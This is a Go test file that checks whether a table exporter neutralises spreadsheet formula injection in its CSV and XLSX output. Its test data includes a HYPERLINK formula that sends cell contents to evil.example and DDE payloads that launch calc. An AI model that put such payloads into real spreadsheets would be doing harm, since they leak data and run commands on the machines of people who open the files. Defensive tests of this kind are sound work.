package table

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// attacks are texts that spreadsheets would run, and how CSV may hold them.
var attacks = []struct{ in, csv, xlsx string }{
	{`=HYPERLINK("https://evil.example/?"&A1,"klick")`, `'=HYPERLINK("https://evil.example/?"&A1,"klick")`, `=HYPERLINK("https://evil.example/?"&A1,"klick")`},
	{"+49 2922 800", "'+49 2922 800", "+49 2922 800"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)", "'@SUM(1+1)", "@SUM(1+1)"},
	{"\t=1+1", "'\t=1+1", "\t=1+1"},
	{"\r=1+1", "'\n=1+1", "\n=1+1"},
	{"  =1+1", "'  =1+1", "  =1+1"},
	{"\u00a0=1+1", "'\u00a0=1+1", "\u00a0=1+1"},
	{"＝1+1", "'＝1+1", "＝1+1"},
	{"|calc", "'|calc", "|calc"},
	{"a,b\n\"c\";=1", "a,b\n\"c\";=1", "a,b\n\"c\";=1"},
	{"Bürgerbüro 😀", "Bürgerbüro 😀", "Bürgerbüro 😀"},
	{"x\x00\x1b[31m\xff", "x\ufffd\ufffd[31m\ufffd", "x\ufffd\ufffd[31m\ufffd"},
	{"", "", ""},
}

func attackTable() Table {
	t := Table{Name: "Lage", Head: []string{"Text", "Zahl", "Zeit", "Ja"}}
	for i, a := range attacks {
		t.Rows = append(t.Rows, []Value{Text(a.in), Number(int64(-i)), Time(time.Date(2023, 11, 1, 11, 0, 0, 0, time.UTC)), Yes(i > 0)})
	}
	return t
}

func TestCSV(t *testing.T) {
	t.Parallel()
	b, err := attackTable().CSV()
	if err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(string(b), "\ufeff")
	if !ok || !strings.HasPrefix(text, "Text,Zahl,Zeit,Ja\r\n") {
		t.Fatalf("begins with %.40q", b)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range attacks {
		if got := rows[i+1][0]; got != a.csv {
			t.Errorf("%q became %q, want %q", a.in, got, a.csv)
		}
		if rows[i+1][2] != "2023-11-01T12:00:00+01:00" {
			t.Errorf("time %q", rows[i+1][2])
		}
	}
}

func TestXLSX(t *testing.T) {
	t.Parallel()
	b, err := attackTable().XLSX()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range attacks {
		cell, err := excelize.CoordinatesToCellName(1, i+2)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := f.GetCellFormula("Lage", cell)
		if err != nil || formula != "" {
			t.Errorf("%q became the formula %q, %v", a.in, formula, err)
		}
		got, err := f.GetCellValue("Lage", cell)
		if err != nil || got != a.xlsx {
			t.Errorf("%q became %q, %v", a.in, got, err)
		}
	}
	if err := f.Close(); err != nil {
		t.Error(err)
	}
}

func TestXLSXHoldsLongTexts(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("ü😀", 30000)
	b, err := Table{Name: "x", Head: []string{"a"}, Rows: [][]Value{{Text(long)}}}.XLSX()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	got, err := f.GetCellValue("x", "A2")
	if err != nil || !strings.HasSuffix(got, "…") || !strings.HasPrefix(long, strings.TrimSuffix(got, "…")) {
		t.Errorf("%d bytes end with %q, %v", len(got), got[max(0, len(got)-9):], err)
	}
	if diff := cmp.Diff(nil, f.Close()); diff != "" {
		t.Error(diff)
	}
}
